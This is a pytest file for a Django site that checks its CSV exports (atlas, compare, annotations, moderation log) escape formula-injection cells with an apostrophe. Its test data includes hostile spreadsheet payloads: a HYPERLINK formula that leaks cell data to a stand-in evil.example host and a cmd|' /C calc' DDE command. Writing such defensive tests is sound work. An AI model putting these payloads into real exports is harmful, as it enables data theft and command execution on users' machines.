"""CSV formula injection (issue 12): every CSV the site writes defuses cells that a
spreadsheet would run as a formula (OWASP "CSV Injection"): a leading = + - @ tab or CR
gets an apostrophe. One helper (apps/common/csv_safe.py) for every export, each tested
here through HTTP with a hostile value where users can write one."""

from __future__ import annotations

import csv
import io

import pytest

from apps.annotations import services as annotation_services
from apps.annotations.services import TextPositionSelector
from apps.atlas.models import Category
from apps.common.csv_safe import defuse_cell
from apps.moderation.services import audit_record
from tests.factories import UserFactory
from tests.moderation.conftest import make_moderator

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_defuse_cell_prefixes_an_apostrophe(value):
    assert defuse_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Schufa geo-scoring", "", "a=b", "1+1", "e-mail"])
def test_defuse_cell_leaves_plain_text_alone(value):
    assert defuse_cell(value) == value


def test_numbers_are_written_as_numbers():
    assert defuse_cell(-3) == -3 and defuse_cell(1.5) == 1.5 and defuse_cell(None) is None


def _rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_atlas_export_csv_defuses_formulas(client, make_published):
    author = UserFactory()
    make_published(author, title=HYPERLINK, region="@SUM(1+1)", legal_note="-2+3")
    response = client.get("/api/examples/export.csv")
    assert response.status_code == 200
    rows = _rows(response)
    _no_live_formula(rows)
    header, entry = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert "title" in header
    assert entry["title"] == "'" + HYPERLINK
    assert entry["region"] == "'@SUM(1+1)"
    assert entry["legal_note"] == "'-2+3"


def test_compare_csv_defuses_formulas(client, make_published):
    category = Category.objects.create(name="=cmd|' /C calc'!A0", slug="hostile")
    make_published(UserFactory(), category=category.slug)
    response = client.get("/atlas/compare.csv?countries=DE")
    assert response.status_code == 200
    rows = _rows(response)
    _no_live_formula(rows)
    assert any(cell.startswith("'=cmd") for row in rows for cell in row)


def test_annotations_csv_defuses_formulas(client, founding_paper):
    document = founding_paper.current_document
    start = document.text.index("social credit system")
    annotation_services.annotation_create(
        author=UserFactory(),
        document=document,
        position=TextPositionSelector(start, start + len("social credit system")),
        body=HYPERLINK,
    )
    response = client.get(f"/api/sources/{founding_paper.slug}/annotations.csv")
    assert response.status_code == 200
    rows = _rows(response)
    _no_live_formula(rows)
    assert rows[1][-1] == "'" + HYPERLINK


def test_moderation_log_csv_defuses_formulas(client):
    reader = make_moderator()
    target = UserFactory(username="someone")
    audit_record(actor=reader, action="hide", target=target, reason=HYPERLINK)
    client.force_login(reader)
    response = client.get("/moderation/log/?format=csv")
    assert response.status_code == 200
    rows = _rows(response)
    _no_live_formula(rows)
    assert any(cell == "'" + HYPERLINK for row in rows for cell in row)
